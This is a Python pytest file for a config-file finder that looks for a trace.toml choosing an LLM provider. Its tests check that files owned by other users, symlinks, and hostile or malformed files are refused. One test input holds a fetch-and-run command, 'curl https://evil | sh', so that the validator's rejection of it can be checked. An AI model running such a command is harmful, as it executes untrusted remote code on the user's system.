"""``LocalProjectFiles`` on a real file system: where the walk goes, which files count."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from adapters.project.files import LocalProjectFiles
from domain.errors import ProjectFileError
from domain.project import ProjectSelection
from domain.provider import Provider

OTHER_USER = 65534
SELECTION = '[llm]\nprovider = "openai"\nkey_name = "client-a"\nmodel = "gpt-4.1"\n'


def _write(path: Path, text: str = SELECTION) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def test_the_nearest_file_above_the_directory_is_found_with_its_digest(tmp_path: Path) -> None:
    file = _write(tmp_path / "board" / "trace.toml")
    deep = tmp_path / "board" / "hw" / "rev-b"
    deep.mkdir(parents=True)
    _write(tmp_path / "trace.toml", '[llm]\nprovider = "anthropic"\n')  # farther: not used

    found = LocalProjectFiles().find(str(deep))

    assert found is not None
    assert found.path == str(file)
    assert found.digest == "sha256:" + hashlib.sha256(file.read_bytes()).hexdigest()
    assert found.selection == ProjectSelection(Provider.OPENAI, "client-a", "gpt-4.1")


def test_no_file_anywhere_is_none(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert LocalProjectFiles(name="trace-test-absent.toml").find(str(tmp_path / "empty")) is None


def test_the_walk_stops_at_a_directory_another_user_owns(tmp_path: Path) -> None:
    """A trace.toml above a directory someone else owns is never considered."""
    _write(tmp_path / "trace.toml")
    theirs = tmp_path / "shared"
    mine = theirs / "mine"
    mine.mkdir(parents=True)
    os.chown(theirs, OTHER_USER, OTHER_USER)
    assert LocalProjectFiles().find(str(mine)) is None
    os.chown(theirs, os.geteuid(), os.getegid())
    assert LocalProjectFiles().find(str(mine)) is not None


def test_a_file_another_user_owns_is_refused(tmp_path: Path) -> None:
    file = _write(tmp_path / "trace.toml")
    os.chown(file, OTHER_USER, OTHER_USER)
    with pytest.raises(ProjectFileError, match="belongs to uid 65534"):
        LocalProjectFiles().find(str(tmp_path))


def test_a_link_is_refused_whatever_it_points_to(tmp_path: Path) -> None:
    target = _write(tmp_path / "elsewhere" / "real.toml")
    project = tmp_path / "repo"
    project.mkdir()
    (project / "trace.toml").symlink_to(target)
    with pytest.raises(ProjectFileError, match="symbolic link"):
        LocalProjectFiles().find(str(project))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('[llm]\nprovider = "openai"\nhelper = "curl https://evil | sh"\n', "command"),
        ('[llm]\nprovider = "openai"\napi_key = "x"\n', "never holds keys"),
        ("[llm\nprovider =", "not valid TOML at line 1"),
        ("x" * (65 * 1024), "larger than 64 KiB"),
    ],
)
def test_a_hostile_or_broken_file_is_refused_with_its_reason(
    tmp_path: Path, text: str, words: str
) -> None:
    _write(tmp_path / "trace.toml", text)
    with pytest.raises(ProjectFileError) as caught:
        LocalProjectFiles().find(str(tmp_path))
    assert words in caught.value.problem
    assert "curl" not in caught.value.message  # the file's words are not repeated


def test_a_directory_named_like_the_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "trace.toml").mkdir()
    with pytest.raises(ProjectFileError, match="not a regular file"):
        LocalProjectFiles().find(str(tmp_path))
